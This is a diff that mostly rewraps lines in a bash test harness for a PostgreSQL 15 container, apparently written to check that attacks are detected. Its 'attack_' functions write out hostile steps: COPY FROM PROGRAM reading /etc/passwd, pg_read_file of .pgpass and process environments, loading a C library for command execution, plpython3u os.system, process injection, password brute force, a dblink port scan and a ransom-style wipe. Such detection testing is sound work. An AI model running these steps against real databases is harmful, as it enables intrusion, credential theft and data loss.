@@ -13,10 +13,11 @@ pgbin=/usr/lib/postgresql/15/bin
 pgetc=/etc/postgresql/15/main
 configuration_file=$pgetc/postgresql.conf
 health=("$pgbin/pg_isready" -q)
-image_packages=(postgresql-15 postgresql-plpython3-15 bash coreutils findutils grep gzip dash base-files libc-bin
-	tzdata hostname)
-rare_own=(base_backup replica_attaches new_database extensions slow_query settings_changed backend_crash big_sort
-	deadlock replication_slot tablespace foreign_data session_ended frozen csv_log certificate large_objects)
+image_packages=(postgresql-15 postgresql-plpython3-15 bash coreutils findutils grep gzip dash base-files
+	libc-bin tzdata hostname)
+rare_own=(base_backup replica_attaches new_database extensions slow_query settings_changed backend_crash
+	big_sort deadlock replication_slot tablespace foreign_data session_ended frozen csv_log certificate
+	large_objects)
 
 image_prepare() {
 	local tree=$1 data=/var/lib/postgresql/15/main
@@ -39,7 +40,8 @@ image_prepare() {
 	rm "$tree/tmp/password" "$tree/dev/null" "$tree/dev/urandom"
 	mv "$tree$data"/*.conf "$tree$pgetc/"
 	mv "$tree$pgetc/postgresql.auto.conf" "$tree$data/"
-	printf 'hostssl all all all scram-sha-256\nhost all,replication all all scram-sha-256\n' >>"$tree$pgetc/pg_hba.conf"
+	printf 'hostssl all all all scram-sha-256\nhost all,replication all all scram-sha-256\n' \
+		>>"$tree$pgetc/pg_hba.conf"
 	postgres_settings "$pgetc" >>"$tree$configuration_file"
 }
 
@@ -109,7 +111,8 @@ admin_sql() {
 
 # pg_bench [OPTION…]
 pg_bench() {
-	client env PGUSER=shop PGHOST="$own_address" PGSSLMODE="${ssl_mode:-prefer}" "$pgbin/pgbench" -n "$@" shop
+	client env PGUSER=shop PGHOST="$own_address" PGSSLMODE="${ssl_mode:-prefer}" "$pgbin/pgbench" \
+		-n "$@" shop
 }
 
 # The shop's tables are made when the server answers for the first time.
@@ -118,18 +121,20 @@ ready() {
 	[ -z "$shop_is_made" ] || return 0
 	in_database postgres "create role shop login password 'secret'"
 	in_database postgres 'create database shop owner shop'
-	sql "create table users (id serial primary key, name text unique, password text, email text, at timestamptz default now());
-		create table orders (id serial primary key, user_id int references users, document jsonb, total numeric,
+	sql "create table users (id serial primary key, name text unique, password text, email text,
 			at timestamptz default now());
+		create table orders (id serial primary key, user_id int references users, document jsonb,
+			total numeric, at timestamptz default now());
 		create table notes (id serial primary key, words text, vector tsvector);
 		create index on orders (user_id); create index on notes using gin (vector);
-		create view sales as select u.name, count(*), sum(o.total) from users u join orders o on o.user_id = u.id group by 1;
+		create view sales as select u.name, count(*), sum(o.total) from users u join orders o
+			on o.user_id = u.id group by 1;
 		create function total_of(n int) returns numeric language plpgsql as
 			'begin return (select sum(total) from orders where user_id = n); end';
-		insert into users (name, password, email) select 'user' || i, md5(i::text), 'u' || i || '@example.org'
-			from generate_series(1, 500) i;
-		insert into orders (user_id, document, total) select 1 + i % 500, jsonb_build_object('items', i % 7), i
-			from generate_series(1, 4000) i" || return
+		insert into users (name, password, email) select 'user' || i, md5(i::text),
+			'u' || i || '@example.org' from generate_series(1, 500) i;
+		insert into orders (user_id, document, total) select 1 + i % 500, 
+			jsonb_build_object('items', i % 7), i from generate_series(1, 4000) i" || return
 	client env PGUSER=shop PGHOST="$own_address" "$pgbin/pgbench" -q -i shop || return
 	in_database postgres checkpoint
 	shop_is_made=1
@@ -143,21 +148,25 @@ order_work() {
 	for ((i = 0; i < $1; i++)); do
 		u=$((RANDOM % 500 + 1))
 		echo "select id, name from users where name = 'user$u';"
-		echo "begin; insert into orders (user_id, document, total) values ($u, '{\"items\": $((RANDOM % 9)), \"gift\": true}',
-			$RANDOM); update users set at = now() where id = $u; $(likely 80 && echo commit || echo rollback);"
+		echo "begin; insert into orders (user_id, document, total)
+			values ($u, '{\"items\": $((RANDOM % 9)), \"gift\": true}', $RANDOM);
+			update users set at = now() where id = $u; $(likely 80 && echo commit || echo rollback);"
 		echo "select document->>'items', total from orders where user_id = $u order by at desc limit 5;"
-		likely 70 || echo "delete from orders where id in (select id from orders where user_id = $u order by at limit 1);"
+		likely 70 || echo "delete from orders where id in (select id from orders where user_id = $u
+			order by at limit 1);"
 	done
 }
 
 text_work() {
 	local i
 	for ((i = 0; i < $1; i++)); do
-		echo "insert into notes (words, vector) select w, to_tsvector('english', w) from (select 'cats run to house $RANDOM' ||
-			repeat(' word', $((RANDOM % 2000))) w) s;"
+		echo "insert into notes (words, vector) select w, to_tsvector('english', w)
+			from (select 'cats run to house $RANDOM' || repeat(' word', $((RANDOM % 2000))) w) s;"
 	done
-	echo "select id, ts_rank(vector, q) from notes, to_tsquery('english', 'cat & house') q where vector @@ q limit 10;"
-	echo "update notes set words = words || 'x' where id % 9 = 0; delete from notes where id < (select max(id) - 400 from notes);"
+	echo "select id, ts_rank(vector, q) from notes, to_tsquery('english', 'cat & house') q
+		where vector @@ q limit 10;"
+	echo "update notes set words = words || 'x' where id % 9 = 0;
+		delete from notes where id < (select max(id) - 400 from notes);"
 }
 
 report_work() {
@@ -170,18 +179,23 @@ report_work() {
 }
 
 other_work() {
-	echo "begin; declare c cursor for select * from orders; fetch 5 from c; savepoint a; select 1 / 0; rollback to a; commit;"
-	echo "listen news; notify news, 'x'; create temp table s as select generate_series(1, $(($1 * 100))) n; select sum(n) from s;"
+	echo "begin; declare c cursor for select * from orders; fetch 5 from c; savepoint a; select 1 / 0;
+		rollback to a; commit;"
+	echo "listen news; notify news, 'x'; create temp table s as select 
+		generate_series(1, $(($1 * 100))) n; select sum(n) from s;"
 	echo "select * from nowhere; select total_of($1), version(), now(), pg_database_size('shop');"
-	echo "prepare p (int) as select name from users where id = \$1; execute p ($1); execute p (2); deallocate p;"
+	echo "prepare p (int) as select name from users where id = \$1; execute p ($1); execute p (2);
+		deallocate p;"
 	echo "set statement_timeout = 50; select pg_sleep(1); reset statement_timeout; show work_mem;"
-	echo "select * from pg_stat_activity; select relname, n_live_tup from pg_stat_user_tables; select * from pg_locks;"
-	echo "select pg_advisory_lock($1); select pg_advisory_unlock($1); truncate pgbench_history; select random(), md5('$1');"
+	echo "select * from pg_stat_activity; select relname, n_live_tup from pg_stat_user_tables;
+		select * from pg_locks;"
+	echo "select pg_advisory_lock($1); select pg_advisory_unlock($1); truncate pgbench_history;
+		select random(), md5('$1');"
 }
 
-# shop_session: statements from stdin.
+# shop_session [OPTION…]: statements from stdin.
 shop_session() {
-	client_stdin "$pgbin/psql" -qAtX "host=$own_address user=shop dbname=shop sslmode=${ssl_mode:-prefer}"
+	client_stdin "$pgbin/psql" -qAtX "host=$own_address user=shop dbname=shop sslmode=${ssl_mode:-prefer}" "$@"
 }
 
 request() {
@@ -196,8 +210,8 @@ request() {
 	7) generated "$number" text_work "$n" | shop_session ;;
 	8) generated "$number" report_work "$n" | shop_session ;;
 	9) generated "$number" other_work "$n" | shop_session ;;
-	10) seq "$n" | sed 's/.*/&\tname\t{}/' | client_stdin "$pgbin/psql" -qX "host=$own_address user=shop dbname=shop" \
-		-c 'create temp table t (a int, b text, c jsonb); copy t from stdin; copy (select * from t where a % 2 = 0) to stdout' ;;
+	10) seq "$n" | sed 's/.*/&\tname\t{}/' | shop_session -c 'create temp table t (a int, b text, c jsonb);
+		copy t from stdin; copy (select * from t where a % 2 = 0) to stdout' ;;
 	11) client env PGPASSWORD=wrong "$pgbin/psql" -X "host=$own_address user=shop dbname=shop" -c 'select 1' ;;
 	esac >/dev/null
 }
@@ -237,12 +251,15 @@ rare_new_database() {
 }
 
 rare_extensions() {
-	admin_sql 'create extension pg_trgm; create extension pgcrypto; create extension hstore; create extension pageinspect'
-	admin_sql "select similarity('word', 'world'), crypt('a', gen_salt('bf', 4)), 'a=>1'::hstore; drop extension pg_trgm"
+	admin_sql 'create extension pg_trgm; create extension pgcrypto; create extension hstore;
+		create extension pageinspect'
+	admin_sql "select similarity('word', 'world'), crypt('a', gen_salt('bf', 4)), 'a=>1'::hstore;
+		drop extension pg_trgm"
 }
 
 rare_slow_query() {
-	admin_sql "set statement_timeout = '6s'; select count(*) from orders a, orders b, orders c where a.total < b.total + c.total"
+	admin_sql "set statement_timeout = '6s'; select count(*) from orders a, orders b, orders c
+		where a.total < b.total + c.total"
 	admin_sql 'select pg_stat_statements_reset()'
 }
 
@@ -268,14 +285,17 @@ rare_backend_crash() {
 }
 
 rare_big_sort() {
-	admin_sql "set work_mem = '64kB'; select a.filler, b.filler from pgbench_accounts a join pgbench_accounts b using (aid)
+	admin_sql "set work_mem = '64kB'; select a.filler, b.filler from pgbench_accounts a
+		join pgbench_accounts b using (aid)
 		order by a.filler, b.abalance limit 5"
 	admin_sql 'create index on pgbench_accounts (abalance, filler)'
 }
 
 rare_deadlock() {
-	admin_sql 'begin; update users set email = 1 where id = 1; select pg_sleep(2); update users set email = 1 where id = 2' &
-	admin_sql 'begin; update users set email = 1 where id = 2; select pg_sleep(2); update users set email = 1 where id = 1'
+	admin_sql 'begin; update users set email = 1 where id = 1; select pg_sleep(2);
+		update users set email = 1 where id = 2' &
+	admin_sql 'begin; update users set email = 1 where id = 2; select pg_sleep(2);
+		update users set email = 1 where id = 1'
 	wait $! || true
 }
 
@@ -295,10 +315,10 @@ rare_tablespace() {
 
 rare_foreign_data() {
 	admin_sql "create extension file_fdw; create server files foreign data wrapper file_fdw;
-		create foreign table zones (a text) server files options (filename '/usr/share/zoneinfo/tzdata.zi');
-		select count(*) from zones; drop extension file_fdw cascade"
-	admin_sql "create extension dblink; select * from dblink('host=127.0.0.1 user=postgres password=secret dbname=shop',
-		'select 1') t (a int); drop extension dblink"
+		create foreign table zones (a text) server files
+			options (filename '/usr/share/zoneinfo/tzdata.zi'); select count(*) from zones; drop extension file_fdw cascade"
+	admin_sql "create extension dblink;
+		select * from dblink('host=127.0.0.1 user=postgres password=secret dbname=shop', 'select 1') t (a int); drop extension dblink"
 }
 
 rare_session_ended() {
@@ -332,7 +352,8 @@ rare_certificate() {
 }
 
 rare_large_objects() {
-	admin_sql "select lo_from_bytea(4711, repeat('large', 100000)::bytea); select length(lo_get(4711)); select lo_unlink(4711)"
+	admin_sql "select lo_from_bytea(4711, repeat('large', 100000)::bytea); select length(lo_get(4711));
+		select lo_unlink(4711)"
 }
 
 # The volume is full but for what the write-ahead log needs: without that, postgres ends.
@@ -352,7 +373,8 @@ rare_volume_full() {
 
 attack_copy_program() {
 	harm exec '*/dash'
-	admin_sql "create table out (t text); copy out from program 'id; uname -a; cat /etc/passwd'; select * from out; drop table out" |
+	admin_sql "create table out (t text); copy out from program 'id; uname -a; cat /etc/passwd';
+		select * from out; drop table out" |
 		tee "$stage/answer" | grep -q uid=103
 }
 
@@ -383,7 +405,8 @@ attack_read_secret() {
 	harm open /var/lib/postgresql/.pgpass
 	harm open /etc/passwd
 	admin_sql "select pg_read_file('/etc/passwd'), pg_read_file('/var/lib/postgresql/.pgpass'),
-		encode(pg_read_binary_file('/proc/1/environ', 0, 4000), 'escape')" | tee "$stage/answer" | grep -a secret-of-the-replica
+		encode(pg_read_binary_file('/proc/1/environ', 0, 4000), 'escape')" |
+		tee "$stage/answer" | grep -a secret-of-the-replica
 }
 
 # A library comes in as a large object.
@@ -394,8 +417,10 @@ attack_library() {
 	harm open /tmp/stats.so
 	harm mapx /tmp/stats.so
 	harm exec '*/dash'
-	echo "select lo_from_bytea(4712, decode('$hex', 'hex')); select lo_export(4712, '/tmp/stats.so'); select lo_unlink(4712);
-		create function run_command(cstring) returns int as '/tmp/stats.so', 'postgres_run' language c strict;
+	echo "select lo_from_bytea(4712, decode('$hex', 'hex')); select lo_export(4712, '/tmp/stats.so');
+		select lo_unlink(4712);
+		create function run_command(cstring) returns int
+			as '/tmp/stats.so', 'postgres_run' language c strict;
 		select run_command('id >/tmp/out'); drop function run_command(cstring)" |
 		client_stdin "$pgbin/psql" -qAtX "host=$own_address user=postgres dbname=shop"
 	session postgres /bin/grep uid=103 /tmp/out
@@ -405,7 +430,8 @@ attack_untrusted_language() {
 	harm mapx '*/plpython3.so'
 	harm exec '*/dash'
 	admin_sql "create extension plpython3u"
-	admin_sql "do 'import os; os.system(\"id >/tmp/out; cat /proc/1/environ >>/tmp/out\")' language plpython3u"
+	admin_sql "do language plpython3u
+		'import os; os.system(\"id >/tmp/out; cat /proc/1/environ >>/tmp/out\")'"
 	session postgres /bin/grep -a uid=103 /tmp/out
 }
 
@@ -427,7 +453,8 @@ attack_brute_force() {
 	harm call clone
 	harm call accept
 	for i in {1..60} secret; do
-		client env PGPASSWORD="$i" "$pgbin/psql" -qAtX "host=$own_address user=postgres dbname=shop" -c 'select 4711'
+		client env PGPASSWORD="$i" "$pgbin/psql" -qAtX "host=$own_address user=postgres dbname=shop" \
+			-c 'select 4711'
 	done | grep -x 4711
 }
 
@@ -437,7 +464,8 @@ attack_scan() {
 	harm connect '10.88.0.1:*'
 	admin_sql 'create extension dblink'
 	for p in 22 25 53 80 443 3306 5432 6379 8080 9200 11211 27017; do
-		admin_sql "select dblink_connect('host=$peer_address port=$p connect_timeout=1 user=x')" 2>&1 || true
+		admin_sql "select dblink_connect('host=$peer_address port=$p connect_timeout=1 user=x')" 2>&1 ||
+			true
 	done | grep -c -e refused -e closed -e timeout
 	admin_sql 'drop extension dblink'
 }
@@ -447,7 +475,7 @@ attack_code_shell() {
 	client "$pgbin/psql" -qAtX "host=$own_address user=shop dbname=shop" -c 'select pg_sleep(8)' &
 	until_true 10 test -n "$(tasks_named postgres 'postgres: shop shop')"
 	sleep 1
-	inject postgres 'postgres: shop shop' 'print (int) system("id >/tmp/out; cat /var/lib/postgresql/.pgpass >>/tmp/out")'
+	inject postgres 'postgres: shop shop' 'print (int) system("id >/tmp/out; cat ~/.pgpass >>/tmp/out")'
 	wait $! || true
 	session postgres /bin/grep uid=103 /tmp/out
 }
@@ -476,7 +504,8 @@ adaptive_tamper() {
 adaptive_ransom() {
 	harm unlink '*/base/*'
 	harm truncate '*/base/*'
-	sql "begin; truncate orders, users, notes; insert into notes (words) values ('Pay, and get your data back'); commit"
+	sql "begin; truncate orders, users, notes; insert into notes (words)
+		values ('Pay, and get your data back'); commit"
 	[ "$(admin_sql 'select count(*) from users')" = 0 ]
 }
 
